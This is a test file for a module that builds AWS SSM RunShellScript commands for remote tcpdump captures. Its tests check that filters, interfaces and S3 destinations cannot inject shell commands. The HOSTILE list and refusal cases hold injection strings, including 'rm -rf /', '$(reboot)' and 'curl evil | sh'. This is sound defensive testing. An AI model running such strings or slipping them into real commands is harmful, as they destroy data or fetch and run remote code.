import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { CaptureInputError } from '../../core/capture/capture-input.js';
import { CAPTURE_DOCUMENT, CAPTURE_SCRIPT, captureCommands, sendCommandInput, type SsmCaptureRequest } from './ssm-capture.js';

const exec = promisify(execFile);
const req: SsmCaptureRequest = {
  instanceId: 'i-0123456789abcdef0', region: 'us-east-1', captureId: '20261124T120000Z-abcdef0123', filter: 'port 53 and host 10.0.0.1',
  interface: 'eth0', durationSeconds: 30, maxPackets: 1000, maxBytes: 1048576, snapLength: 0,
};
const dest = { bucket: 'enlm-hub-bucket', region: 'us-west-2', prefix: 'results/captures-ssm/' };
// what a shell would run if the filter were ever interpolated into a command line
const HOSTILE = ["'; rm -rf / #", 'port 53 $(reboot)', 'port 53 `id`', "port 53' && curl evil | sh '", 'host "1.2.3.4"; echo pwned > /tmp/x', 'port 53 || true & wait'];

/** Runs the assignment lines the way AWS-RunShellScript runs `commands` (one script, sh) and prints what each variable holds. */
async function valuesSeenByShell(commands: string[]): Promise<Record<string, string>> {
  const assignments = commands.slice(0, commands.length - CAPTURE_SCRIPT.length);
  const names = assignments.map((l) => l.slice(0, l.indexOf('=')));
  const { stdout } = await exec('sh', ['-c', [...assignments, ...names.map((n) => `printf '%s\\0' "$${n}"`)].join('\n')]);
  const vals = stdout.split('\0');
  return Object.fromEntries(names.map((n, i) => [n, vals[i]!]));
}

describe('sendCommandInput', () => {
  it('targets exactly the one instance with AWS-RunShellScript and the commands of captureCommands', () => {
    const input = sendCommandInput(req, dest);
    expect(input.InstanceIds).toEqual([req.instanceId]);
    expect(input.Targets).toBeUndefined();
    expect(input.DocumentName).toBe(CAPTURE_DOCUMENT);
    expect(input.Parameters?.commands).toEqual(captureCommands(req, dest));
    expect(input.Parameters?.executionTimeout).toEqual([String(req.durationSeconds + 600)]);
  });
});

describe('captureCommands: the request reaches the fixed script as data', () => {
  it('is the ENLM_* assignments followed by the fixed script, unchanged', () => {
    const c = captureCommands(req, dest);
    expect(c.slice(-CAPTURE_SCRIPT.length)).toEqual([...CAPTURE_SCRIPT]);
    expect(c.slice(0, -CAPTURE_SCRIPT.length).every((l) => /^ENLM_[A-Z0-9_]+=/.test(l))).toBe(true);
  });

  it('the fixed script is valid sh and reads the filter from a file with tcpdump -F', async () => {
    await exec('sh', ['-n', '-c', CAPTURE_SCRIPT.join('\n')]);
    expect(CAPTURE_SCRIPT.join('\n')).toMatch(/base64 -d > "\$work\/filter"/);
    expect(CAPTURE_SCRIPT.join('\n')).toMatch(/tcpdump .* -F "\$work\/filter"/);
    expect(CAPTURE_SCRIPT.join('\n')).not.toMatch(/eval|\$\(\s*cat/);
  });

  it('the shell sees exactly the values asked for: filter (decoded), interface, limits, destination', async () => {
    const v = await valuesSeenByShell(captureCommands(req, dest));
    expect(Buffer.from(v.ENLM_FILTER_B64!, 'base64').toString('utf8')).toBe(req.filter);
    expect(v).toMatchObject({
      ENLM_IFACE: 'eth0', ENLM_DURATION: '30', ENLM_MAX_PACKETS: '1000', ENLM_MAX_BYTES: '1048576', ENLM_SNAPLEN: '0', ENLM_REGION: 'us-west-2',
      ENLM_DEST: 's3://enlm-hub-bucket/results/captures-ssm/i-0123456789abcdef0/20261124T120000Z-abcdef0123.pcap',
    });
  });

  it.each(HOSTILE)('a filter a shell would interpret (%s) is base64 only: never raw in the command text, and the shell reads it back unchanged', async (filter) => {
    const c = captureCommands({ ...req, filter }, dest);
    const text = c.join('\n');
    expect(text).not.toContain(filter);
    const b64 = Buffer.from(filter).toString('base64');
    expect(c[0]).toBe(`ENLM_FILTER_B64='${b64}'`);
    expect(b64).toMatch(/^[A-Za-z0-9+/=]*$/);
    const v = await valuesSeenByShell(c);
    expect(Buffer.from(v.ENLM_FILTER_B64!, 'base64').toString('utf8')).toBe(filter);
  });

  it('no filter captures everything: an empty base64 value', () => {
    expect(captureCommands({ ...req, filter: undefined }, dest)[0]).toBe("ENLM_FILTER_B64=''");
  });

  it.each(["eth0'", 'eth0;id', '$(id)', 'a b', 'eth0:1', '-i', '1234', 'x'.repeat(16), 'eth`id`'])('refuses interface %j before anything is sent', (iface) => {
    expect(() => captureCommands({ ...req, interface: iface }, dest)).toThrow(CaptureInputError);
  });

  it('refuses a filter with a newline (it would be a second script line anywhere line-oriented)', () => {
    expect(() => captureCommands({ ...req, filter: 'port 53\nreboot' }, dest)).toThrow(/control character/);
  });

  it('refuses a filter longer than 1024 characters', () => {
    expect(() => captureCommands({ ...req, filter: 'a'.repeat(1025) }, dest)).toThrow(/at most 1024/);
  });

  it.each([
    ['durationSeconds', 3601], ['durationSeconds', 0], ['durationSeconds', 1.5], ['maxPackets', Number.NaN], ['maxBytes', 2 ** 31 + 1], ['snapLength', -1],
  ] as const)('refuses %s = %s', (field, value) => {
    expect(() => captureCommands({ ...req, [field]: value }, dest)).toThrow(new RegExp(`${field} must be an integer`));
  });

  it('refuses a destination that would leave its quotes (bucket, prefix, region, ids)', () => {
    expect(() => captureCommands(req, { ...dest, bucket: "b'; id; '" })).toThrow(CaptureInputError);
    expect(() => captureCommands(req, { ...dest, prefix: "results/'x" })).toThrow(CaptureInputError);
    expect(() => captureCommands(req, { ...dest, prefix: 'results/../bundles/' })).toThrow(CaptureInputError);
    expect(() => captureCommands(req, { ...dest, region: "us-east-1' x" })).toThrow(CaptureInputError);
    expect(() => captureCommands({ ...req, instanceId: "i-0123456789abcdef0'" }, dest)).toThrow(CaptureInputError);
    expect(() => captureCommands({ ...req, captureId: "x'y" }, dest)).toThrow(CaptureInputError);
  });
});
